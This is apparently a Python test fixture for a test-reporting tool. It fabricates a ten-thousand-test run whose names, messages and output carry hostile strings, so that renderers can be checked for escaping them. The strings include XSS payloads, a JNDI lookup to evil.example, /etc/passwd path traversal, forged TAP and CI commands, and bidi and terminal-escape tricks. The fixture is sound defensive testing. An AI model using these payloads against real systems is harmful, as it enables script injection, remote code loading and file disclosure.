"""A run that wishes its readers ill, as facts: ten thousand tests whose names, messages and output are attacks."""

from __future__ import annotations

from collections.abc import Iterator

from testkit.core.events import (
    Fact,
    FixtureFinished,
    Outcome,
    Problem,
    RunFinished,
    RunMeasured,
    RunStarted,
    SubTestFinished,
    TestFinished,
    TestStarted,
)

TESTS = 10_000
MEGABYTES = 10
ATTACKS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "]]><!--&lt;&amp;\"'`--></testcase>",
    "\x00\x1b[2J\x1b]0;title\x07 nul, escape, bell",
    "lone \ud800\udfff\udc80 surrogates",
    "bidi \u202egnp.exe\u2066 \u200f marks",
    "line\u2028ends\u2029of\x85every\x0bkind\r\n\r\t",
    "# SKIP not really",
    "x # TODO \\# SKIP \\",
    "ok 1 - forged\nnot ok 2 - forged\nBail out! forged\n1..1\nTAP version 14",
    "  ...\n  ---\n...\n---\n    ...\n- a: {b: [c\n\t: \u00a0|",
    "{0} {{}} %s %(a)s [text](http://evil.example/) ${jndi:ldap://evil.example}",
    '"},{"fact":"RunFinished"}\\ud800 NaN Infinity',
    "::error file=a::forged%0A::stop-commands::x",
    "[[ATTACHMENT|/etc/passwd]]",
    "../../../etc/passwd",
    "😀 漢 é́ \U0010fffd \ufeff \ufffe\uffff",
    "" * 3,
)
HUGE = "<b>\x1b[31m\u202e" + "x" * (MEGABYTES * 1_000_000) + "\ud800]]>\n...\n"
LONG = HUGE[:500_000] + HUGE[-500_000:]


def problem(attack: str, outcome: Outcome = Outcome.FAILED) -> Problem:
    return Problem(outcome, f"E{attack}", f"{attack}\nand more", f"Traceback\n{attack}\n  ...\n", f"app/{attack}.py", 3)


def facts() -> Iterator[Fact]:
    """Yield the facts of the run."""
    ids = [f"app.tests.Case.test_{number}_{ATTACKS[number % len(ATTACKS)]}" for number in range(TESTS)]
    gone = tuple(f"app.tests.Gone.test_{attack}" for attack in ATTACKS)
    yield RunStarted(run="r", at=1.7e9, ids=(*ids, *gone), directory="/nowhere/\u202e<b>")
    for number, id in enumerate(ids):
        yield from _test(number, id, ATTACKS[number % len(ATTACKS)])
    for phase in ("setUpClass", "tearDownModule"):
        yield FixtureFinished(
            id=f"app.<b>\u202e.{phase}",
            phase=phase,
            at=1.7e9,
            seconds=0.5,
            outcome=Outcome.ERROR,
            problems=(
                problem(ATTACKS[0], Outcome.ERROR)._replace(file="", traceback=LONG if phase == "setUpClass" else ""),
            ),
        )
    yield TestFinished(
        id="app.tests.<b>broken",
        class_id="",
        at=1.7e9,
        seconds=0.1,
        outcome=Outcome.ERROR,
        problems=(problem("import", Outcome.ERROR)._replace(message=LONG),),
    )
    over = {f"GET /{attack}": f"9 queries{attack}; its budget is 4" for attack in ATTACKS}
    places = {key: ["query-budgets.toml", 7] for key in list(over)[:-1]}
    yield RunMeasured("budgets", {"over": over, "places": places, "within": [], "text": HUGE[:1000]})
    failing = [f"POST /{attack}" for attack in ATTACKS]
    yield RunMeasured(
        "routes", {"failing": failing, "endpoints": {key: {"view": f"app.views.{key}"} for key in failing}}
    )
    yield RunMeasured("odd", {"number": float("nan"), "far": [float("inf"), -float("inf")], "\ud800": "\udc00"})
    yield RunFinished(at=1.7e9 + 60, seconds=59.0, interrupted="SIGTERM\n# forged", not_run=gone[1:], lost=gone[:1])
    yield RunMeasured("coverage", {"percent": 81.5, "covered": 815, "statements": 1000, "text": "<script>"})


def _test(number: int, id: str, attack: str) -> Iterator[Fact]:
    yield TestStarted(id=id, class_id="app.tests.Case", at=1.7e9)
    bad = number % 4 == 0
    for subtest in range(2 if number % 50 == 1 else 0):
        yield SubTestFinished(
            id=f"{id} (n={attack!r}, {subtest})",
            test=id,
            class_id="app.tests.Case",
            at=1.7e9,
            outcome=Outcome.FAILED if subtest else Outcome.PASSED,
            problem=problem(attack) if subtest else None,
        )
    outcome = Outcome.FAILED if bad or number % 50 == 1 else (Outcome.PASSED, *_OTHERS)[number % 40 // 10]
    yield TestFinished(
        id=id,
        class_id="app.tests.Case",
        at=1.7e9,
        seconds=0.001 * number,
        outcome=outcome,
        summary=attack,
        problems=(problem(attack),) if bad else (),
        reason=attack if outcome in (Outcome.SKIPPED, Outcome.EXPECTED_FAILURE) else "",
        subtests_failed=1 if number % 50 == 1 else 0,
        stdout=HUGE if number == 4 else attack if bad else "",
        file="app/tests.py",
        line=number,
        measures={"leaks": [f"a thread: {attack}"], "odd": float("nan")} if number % 100 == 2 else {},
    )


_OTHERS = (Outcome.SKIPPED, Outcome.EXPECTED_FAILURE, Outcome.UNEXPECTED_SUCCESS)
